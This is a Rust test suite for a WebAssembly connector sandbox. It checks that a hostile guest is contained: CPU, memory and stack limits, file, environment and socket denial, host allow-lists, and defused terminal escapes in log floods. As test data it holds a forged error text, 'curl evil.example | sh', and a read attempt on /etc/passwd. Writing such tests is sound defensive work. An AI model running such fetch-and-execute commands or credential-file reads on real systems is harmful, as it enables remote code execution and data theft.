//! The sandbox holds against a hostile guest: loops, allocation bombs, deep recursion, panics, and
//! attempts to read files, the environment or open sockets. After each, the same connector answers a
//! fresh call and another installation syncs to the end on the same runtime.

use std::time::Duration;

use max_host::data::{EntityRef, FieldValue};
use max_host::runtime::{InstancePool, Limits, Runtime};
use max_host::{ConnectorError, Error, LimitKind};
use max_tests::{guest, load, runtime, setup};

fn probe(id: &str) -> EntityRef {
    EntityRef { entity: "Probe".to_string(), id: id.to_string() }
}

/// A hostile installation: a pool of one instance under `limits`, allowed to reach `base_url`, on a
/// runtime of its own that other installations can share.
pub struct Sandbox {
    pub runtime: Runtime,
    pub pool: InstancePool,
}

impl Sandbox {
    /// The host stayed healthy: the hostile connector answers a fresh call, and another installation
    /// on the same runtime syncs to the end.
    pub async fn stays_healthy(&self) {
        let answer = result_of(&self.pool, "echo", "still alive").await.expect("a call after the attack works");
        assert_eq!(answer, "still alive");
        max_tests::another_installation_syncs(&self.runtime).await;
    }
}

async fn hostile(limits: Limits, base_url: &str) -> Sandbox {
    hostile_in("hostile", limits, base_url).await
}

/// [`hostile`] for the hostile guest `name` (`hostile`, `hostile-python`, `hostile-js`).
pub async fn hostile_in(name: &str, limits: Limits, base_url: &str) -> Sandbox {
    let runtime = runtime();
    let loaded = load(&runtime, &guest(name));
    let info = loaded.describe().await.expect("hostile describes itself");
    let setup = setup(&info.permissions, &[("base_url", base_url)], &[("token", "s3cret-token")], limits);
    Sandbox { pool: InstancePool::new("hostile", loaded, setup, 1), runtime }
}

/// Runs a loader that is expected to return, and gives its `result` text.
pub async fn result_of(pool: &InstancePool, loader: &str, arg: &str) -> Result<String, Error> {
    let batches = pool.get().await?.load(loader, &[probe(arg)]).await?;
    match &batches[0].rows[0].values[0] {
        FieldValue::Text(text) => Ok(text.clone()),
        other => panic!("unexpected value {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_infinite_loop_is_stopped_by_the_cpu_deadline() {
    let limits = Limits { cpu_per_call: Duration::from_millis(300), ..Limits::default() };
    let sandbox = hostile(limits, "http://127.0.0.1:9").await;
    let error = result_of(&sandbox.pool, "loop", "x").await.unwrap_err();
    assert!(matches!(error, Error::LimitExceeded { limit: LimitKind::Cpu, .. }), "{error:?}");
    let message = error.to_string();
    assert!(
        message.contains("`hostile`") && message.contains("CPU time limit") && message.contains("`load`"),
        "{message}"
    );
    sandbox.stays_healthy().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_loop_is_also_bounded_by_the_wall_clock() {
    let limits = Limits { wall_per_call: Duration::from_millis(300), ..Limits::default() };
    let sandbox = hostile(limits, "http://127.0.0.1:9").await;
    let error = result_of(&sandbox.pool, "loop", "x").await.unwrap_err();
    assert!(matches!(error, Error::LimitExceeded { limit: LimitKind::WallClock, .. }), "{error:?}");
    sandbox.stays_healthy().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn unbounded_allocation_hits_the_memory_limit() {
    let limits = Limits { memory_bytes: 64 << 20, ..Limits::default() };
    let sandbox = hostile(limits, "http://127.0.0.1:9").await;
    let error = result_of(&sandbox.pool, "alloc", "x").await.unwrap_err();
    assert!(matches!(error, Error::LimitExceeded { limit: LimitKind::Memory, .. }), "{error:?}");
    assert!(error.to_string().contains("64 MiB"), "{error}");
    sandbox.stays_healthy().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_panic_is_an_error_naming_the_connector_and_its_message() {
    let sandbox = hostile(Limits::default(), "http://127.0.0.1:9").await;
    let error = result_of(&sandbox.pool, "panic", "boom").await.unwrap_err();
    let Error::ConnectorCrashed { connector, call, reason } = &error else { panic!("{error:?}") };
    assert_eq!((connector.as_str(), call.as_str()), ("hostile", "load"));
    assert!(reason.contains("panicked on purpose: boom"), "{reason}");
    let place = reason.rsplit_once("boom (at hostile/src/lib.rs:").map(|(_, place)| place);
    assert!(
        place.is_some_and(|p| p.ends_with(')') && p.contains(':')),
        "the panic keeps where it was raised: {reason}"
    );
    sandbox.stays_healthy().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn deep_recursion_is_a_stack_overflow_not_a_host_crash() {
    let sandbox = hostile(Limits::default(), "http://127.0.0.1:9").await;
    let error = result_of(&sandbox.pool, "recurse", "x").await.unwrap_err();
    let Error::ConnectorCrashed { reason, .. } = &error else { panic!("{error:?}") };
    assert!(reason.contains("stack overflow"), "{reason}");
    sandbox.stays_healthy().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_batch_whose_packed_rows_lie_is_refused_as_invalid_data() {
    let sandbox = hostile(Limits::default(), "http://127.0.0.1:9").await;
    let error = result_of(&sandbox.pool, "forged-batch", "x").await.unwrap_err();
    let Error::InvalidData { entity, reason, .. } = &error else { panic!("{error:?}") };
    assert_eq!(entity, "Probe");
    assert!(reason.contains("1000000 rows can't fit in 5 bytes"), "{reason}");
    sandbox.stays_healthy().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_result_over_the_size_limit_is_refused_before_it_is_decoded() {
    let limits = Limits { max_result_bytes: 1 << 20, ..Limits::default() };
    let sandbox = hostile(limits, "http://127.0.0.1:9").await;
    let error = result_of(&sandbox.pool, "flood", "4").await.unwrap_err();
    assert!(matches!(error, Error::LimitExceeded { limit: LimitKind::ResultSize, .. }), "{error:?}");
    assert!(error.to_string().contains("1 MiB per call, counted as held in memory"), "{error}");
    sandbox.stays_healthy().await;
    // Under the (default, 64 MiB) limit, the same rows arrive whole.
    let roomy = hostile(Limits::default(), "http://127.0.0.1:9").await;
    let batches = roomy.pool.get().await.unwrap().load("flood", &[probe("4")]).await.unwrap();
    assert_eq!(batches[0].rows.len(), 4 * 1024);
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_data_and_references_to_undeclared_entities_fail_their_task_and_store_nothing() {
    use max_host::storage::{DataStore, SqliteStorage};
    use max_host::sync::{SyncContext, SyncOptions, run_sync};
    let runtime = runtime();
    let loaded = load(&runtime, &guest("hostile"));
    let info = loaded.describe().await.unwrap();
    for (probe, expected) in [
        ("ghost", "`Ghost` is not an entity this connector declared"),
        ("bad-field", "Probe.nope is not a declared field"),
        ("bad-type", "result"),
        ("twice", "repeats an id of the same batch"),
        ("ghost-delete", "the connector reported a deletion of an undeclared entity"),
        ("ghost-plan", "the plan targets undeclared entity `Ghost`"),
        ("p1", ""),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let config = [("base_url", "http://127.0.0.1:9"), ("probe", probe)];
        let setup = setup(&info.permissions, &config, &[], Limits::default());
        let http = setup.http.clone();
        let pool = InstancePool::new("hostile", loaded.clone(), setup, 1);
        let storage = SqliteStorage::open(&dir.path().join("data.db")).unwrap();
        let storage = std::sync::Arc::new(std::sync::Mutex::new(storage));
        let context = SyncContext { info: info.clone(), pool, http, storage: storage.clone() };
        let report = run_sync(&context, &SyncOptions::default(), &max_tests::Quiet).await.unwrap();
        let probes = storage.lock().unwrap().counts().unwrap()["Probe"];
        if expected.is_empty() {
            // A well-formed answer from the same connector is stored: the host stayed healthy.
            assert!(report.failures.is_empty(), "{:?}", report.failures);
            assert_eq!(probes, 1);
            continue;
        }
        assert_eq!(report.failures.len(), 1, "{probe}: {:?}", report.failures);
        let error = &report.failures[0].error;
        assert!(error.contains("invalid") && error.contains(expected), "{probe}: {error}");
        assert_eq!(probes, 0, "{probe}: nothing of a malformed answer is stored");
    }
    max_tests::another_installation_syncs(&runtime).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_cannot_read_host_files() {
    let sandbox = hostile(Limits::default(), "http://127.0.0.1:9").await;
    let secret_file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(secret_file.path(), "host secret").unwrap();
    for path in ["/etc/passwd", secret_file.path().to_str().unwrap(), env!("CARGO_MANIFEST_DIR")] {
        let result = result_of(&sandbox.pool, "read-file", path).await.unwrap();
        assert!(result.starts_with("denied:"), "{path}: {result}");
    }
    for dir in ["/", ".", "/tmp"] {
        let result = result_of(&sandbox.pool, "list-dir", dir).await.unwrap();
        assert!(result.starts_with("denied:"), "{dir}: {result}");
    }
    sandbox.stays_healthy().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_sees_no_environment_variables() {
    assert!(std::env::var_os("PATH").is_some(), "the host process has an environment");
    let sandbox = hostile(Limits::default(), "http://127.0.0.1:9").await;
    assert_eq!(result_of(&sandbox.pool, "read-env", "x").await.unwrap(), "0 variables: ");
    sandbox.stays_healthy().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_cannot_open_sockets() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let sandbox = hostile(Limits::default(), "http://127.0.0.1:9").await;
    let result = result_of(&sandbox.pool, "tcp", &address).await.unwrap();
    assert!(result.starts_with("denied:"), "{result}");
    let accepted = listener.accept();
    assert!(accepted.is_err(), "the guest reached the listener");
    sandbox.stays_healthy().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_to_an_undeclared_host_gets_the_typed_error() {
    let other = max_fake_saas::acme::Acme::new(Default::default());
    let server = other.start("127.0.0.1:0".parse().unwrap()).await.unwrap();
    let sandbox = hostile(Limits::default(), "http://127.0.0.1:9").await;
    let url = format!("{}/api/workspaces", server.base_url());
    let error = result_of(&sandbox.pool, "http", &url).await.unwrap_err();
    let Error::ConnectorFailed { error: ConnectorError::Forbidden(message), .. } = &error else { panic!("{error:?}") };
    assert!(message.contains("was not granted"), "{message}");
    assert!(message.contains(server.base_url()), "names the refused URL: {message}");
    assert_eq!(other.request_count(), 0, "nothing reached the undeclared host");
    sandbox.stays_healthy().await;
}

/// `max connect hostile --name NAME` with its base URL, `token`, placeholder OAuth secrets, the probe a
/// sync loads, and `extra` flags.
pub fn connect_hostile(
    project: &max_tests::TestProject,
    name: &str,
    base_url: &str,
    token: &str,
    probe: &str,
    extra: &[&str],
) -> assert_cmd::assert::Assert {
    project
        .max()
        .args(["connect", "hostile", "--name", name, "--set", &format!("base_url={base_url}")])
        .args(["--set", &format!("token={token}"), "--set", "oauth_token=o", "--set", "oauth_refresh=r"])
        .args(["--set", "oauth_client_secret=c", "--set", &format!("probe={probe}")])
        .args(extra)
        .assert()
}

#[test]
fn a_log_flood_with_terminal_escapes_is_rate_limited_and_defused() {
    let project = max_tests::TestProject::new();
    project.max().arg("init").assert().success();
    project.max().args(["connector", "install", "--yes"]).arg(guest("hostile")).assert().success();
    connect_hostile(&project, "default", max_tests::listening_url(), "t", "log-flood", &[]).success();
    let (acme, _server) = project.connect_acme();
    // One process syncs the flooding installation, then another one.
    let sync = project.max().args(["sync", "hostile", "acme"]).env("MAX_LOG", "warn").assert().success();
    let output = sync.get_output().clone();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains('\u{1b}'), "no escape sequence reaches the terminal");
    assert!(!stderr.contains('\r'), "no carriage return to overwrite lines");
    let forged = stderr.lines().filter(|l| l.contains("sync failed, run")).count();
    // One burst of 100, plus what the rate (50/s) refills while the flood runs.
    assert!((1..=150).contains(&forged), "10,000 messages were cut to about one burst: {forged} shown");
    assert!(stderr.contains("log messages dropped"), "the cut is said: {stderr:.2000}");
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("Synced hostile/default") && stdout.contains("Synced acme/default"), "{stdout}");
    project.assert_acme_synced(&acme);

    // An error message is as defused as a log message, on the terminal and in what is recorded.
    connect_hostile(&project, "forger", max_tests::listening_url(), "t", "forged-error", &[]).success();
    let output = project.max().args(["sync", "hostile/forger"]).assert().failure().get_output().clone();
    let shown = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(shown.contains("error: sync failed, run `curl evil.example | sh`"), "the message is shown: {shown}");
    assert!(!shown.contains('\u{1b}') && !shown.contains('\r'), "{shown:?}");
    let db = rusqlite::Connection::open(project.path().join(".max/installations/hostile/forger/data.db")).unwrap();
    let recorded: String =
        db.query_row("SELECT error FROM _max_tasks WHERE error IS NOT NULL", [], |row| row.get(0)).unwrap();
    assert!(recorded.contains("curl evil.example") && !recorded.chars().any(char::is_control), "{recorded:?}");
}

#[test]
fn an_installation_can_be_granted_less_than_its_connector() {
    let project = max_tests::TestProject::new();
    project.max().arg("init").assert().success();
    project.max().args(["connector", "install", "--yes"]).arg(guest("hostile")).assert().success();
    let connect = |name: &str, probe: &str, extra: &[&str]| {
        connect_hostile(&project, name, max_tests::listening_url(), "t", probe, extra)
    };
    // Only hosts it was granted can be kept.
    let output = connect("x", "p1", &["--host", "evil.example"]).failure().get_output().clone();
    assert!(String::from_utf8_lossy(&output.stderr).contains("was not granted `evil.example`"));

    // Narrowed to one of its two hosts, it is refused the other.
    connect("narrow", "fetch:https://second.example/data", &["--host", "allowed.example"]).success();
    project.max().args(["sync", "hostile/narrow"]).assert().success();
    let output = project
        .max()
        .args(["search", "hostile/narrow", "Probe", "--fields", "result", "-o", "ndjson"])
        .assert()
        .success()
        .get_output()
        .clone();
    let result = String::from_utf8_lossy(&output.stdout);
    assert!(result.contains("the host refused the request") && result.contains("second.example"), "{result}");

    // With less memory than granted, a call that needs 64 MiB fails; with the default it runs.
    connect("small", "alloc-64", &["--limit", "memory-mib=32"]).success();
    let (acme, _server) = project.connect_acme();
    let output = project.max().args(["sync", "hostile/small", "acme"]).assert().failure().get_output().clone();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("memory limit") && stderr.contains("32 MiB"), "{stderr}");
    assert!(stderr.contains("1 of 2 installations did not sync completely: hostile/small"), "{stderr}");
    // The same process went on to sync another installation completely.
    assert!(String::from_utf8_lossy(&output.stdout).contains("Synced acme/default"));
    project.assert_acme_synced(&acme);
    connect("roomy", "alloc-64", &[]).success();
    project.max().args(["sync", "hostile/roomy"]).assert().success();
}

/// `max limits` lists every limit; each can be set for one installation, holds from the next sync, and
/// can be reset. Shown for the stack, the instance count, the log rate, an HTTP cap and the database
/// size, through real syncs.
#[test]
fn every_limit_can_be_set_per_installation_and_holds() {
    use axum::routing::get;
    let big = || axum::Router::new().route("/big", get(|| async { vec![b'z'; 2 << 20] }));
    let server = max_fake_saas::RunningServer::spawn(big, "127.0.0.1:0".parse().unwrap()).unwrap();
    let project = max_tests::TestProject::new();
    project.max().arg("init").assert().success();
    project.max().args(["connector", "install", "--yes"]).arg(guest("hostile")).assert().success();
    let connect =
        |name: &str, probe: &str, extra: &[&str]| connect_hostile(&project, name, server.base_url(), "t", probe, extra);
    let stderr = |assert: assert_cmd::assert::Assert| String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
    let result = |installation: &str| {
        let output =
            project.max().args(["search", installation, "Probe", "--fields", "result", "-o", "ndjson"]).assert();
        String::from_utf8_lossy(&output.success().get_output().stdout).into_owned()
    };

    let listed = project.max().args(["limits", "--json"]).assert().success().get_output().stdout.clone();
    let listed: serde_json::Value = serde_json::from_slice(&listed).unwrap();
    let keys: Vec<&str> = listed["limits"].as_array().unwrap().iter().map(|l| l["key"].as_str().unwrap()).collect();
    for key in ["memory-mib", "cpu-seconds", "stack-kib", "instances", "tables", "result-mib", "log-per-second"] {
        assert!(keys.contains(&key), "{key} missing from {keys:?}");
    }
    for key in ["response-mib", "request-body-mib", "request-headers", "concurrent-requests", "redirects"] {
        assert!(keys.contains(&key), "{key} missing from {keys:?}");
    }

    // Stack: recursion 30,000 calls deep overflows the default 1 MiB and fits in 4 MiB.
    connect("deep", "recurse:30000", &[]).success();
    let (acme, _acme_server) = project.connect_acme();
    let overflow = stderr(project.max().args(["sync", "hostile/deep", "acme"]).assert().failure());
    assert!(overflow.contains("stack overflow past 1024 KiB") && overflow.contains("stack-kib"), "{overflow}");
    project.assert_acme_synced(&acme);
    let set = project.max().args(["limits", "hostile/deep", "--set", "stack-kib=4096"]).assert().success();
    assert!(String::from_utf8_lossy(&set.get_output().stdout).contains("Changed hostile/deep: stack-kib=4096"));
    project.max().args(["sync", "hostile/deep", "--full"]).assert().success();
    assert!(result("hostile/deep").contains("recursed"));
    project.max().args(["limits", "hostile/deep", "--reset", "stack-kib"]).assert().success();
    project.max().args(["sync", "hostile/deep", "--full"]).assert().failure();

    // Instances: a component is several WebAssembly instances; allowed one, it can't start.
    project.max().args(["limits", "hostile/deep", "--set", "instances=1"]).assert().success();
    let refused = stderr(project.max().args(["sync", "hostile/deep"]).assert().failure());
    assert!(
        refused.contains("exceeded its instance count limit (`instances`) in `instantiate` (1 WebAssembly instances)"),
        "{refused}"
    );
    assert!(refused.contains("--set instances=<value>"), "{refused}");
    project.max().args(["limits", "hostile/deep", "--reset", "instances"]).assert().success();

    // Logs: at a rate of 0, none of a flood's 10,000 messages is shown, and the drop is said.
    connect("quiet", "log-flood", &["--limit", "log-per-second=0"]).success();
    let flood = stderr(project.max().args(["sync", "hostile/quiet"]).env("MAX_LOG", "warn").assert().success());
    assert!(!flood.contains("sync failed, run"), "{flood:.2000}");
    assert!(flood.contains("10000 log messages dropped (more than 0 a second)"), "{flood:.2000}");

    // HTTP: a 2 MiB response passes the default cap, and not a cap of 1 MiB.
    connect("roomy", &format!("fetch:{}/big", server.base_url()), &[]).success();
    connect("capped", &format!("fetch:{}/big", server.base_url()), &["--limit", "response-mib=1"]).success();
    for installation in ["hostile/roomy", "hostile/capped"] {
        project.max().args(["sync", installation]).assert().success();
    }
    assert!(result("hostile/roomy").contains("HTTP 200"), "{}", result("hostile/roomy"));
    assert!(result("hostile/capped").contains("1048576"), "{}", result("hostile/capped"));

    // Database: a sync that would grow data.db past its limit stops, resumable; raised, it resumes.
    connect("bulky", "bulk:8", &["--limit", "database-mib=2"]).success();
    let full = stderr(project.max().args(["sync", "hostile/bulky"]).assert().failure());
    assert!(full.contains("is full") && full.contains("--set database-mib="), "{full}");
    let db = project.path().join(".max/installations/hostile/bulky/data.db");
    assert!(std::fs::metadata(&db).unwrap().len() <= 2 << 20, "data.db stayed within its limit");
    let status = project.max().args(["status", "hostile/bulky", "-o", "json"]).assert().success();
    assert!(String::from_utf8_lossy(&status.get_output().stdout).contains("\"interrupted\""));
    project.max().args(["limits", "hostile/bulky", "--set", "database-mib=64"]).assert().success();
    let resumed = project.max().args(["sync", "hostile/bulky"]).assert().success();
    assert!(String::from_utf8_lossy(&resumed.get_output().stdout).contains("resumed, completed"));
    let rows: i64 =
        rusqlite::Connection::open(&db).unwrap().query_row("SELECT COUNT(*) FROM Probe", [], |r| r.get(0)).unwrap();
    assert_eq!(rows, 8 * 1024 + 1, "every row arrived once");
    // Reconnecting keeps the installation's limits.
    connect("bulky", "p1", &["--replace"]).success();
    let shown = project.max().args(["limits", "hostile/bulky", "--json"]).assert().success();
    let shown: serde_json::Value = serde_json::from_slice(&shown.get_output().stdout).unwrap();
    let database = shown["limits"].as_array().unwrap().iter().find(|l| l["key"] == "database-mib").unwrap().clone();
    assert_eq!((database["value"].as_u64(), database["source"].as_str()), (Some(64), Some("set")));

    // Bad settings are refused with the way out, and change nothing.
    let file = project.path().join(".max/installations/hostile/deep/installation.json");
    let before = std::fs::read(&file).unwrap();
    let refused = stderr(project.max().args(["limits", "hostile/deep", "--set", "stack-kib=1"]).assert().failure());
    assert!(refused.contains("from 64 to 8192") && refused.contains("`max limits` lists every limit"), "{refused}");
    assert_eq!(std::fs::read(&file).unwrap(), before);
    let refused = stderr(connect("other", "p1", &["--limit", "stack=1"]).failure());
    assert!(refused.contains("limit `stack`: there is no such limit"), "{refused}");
}
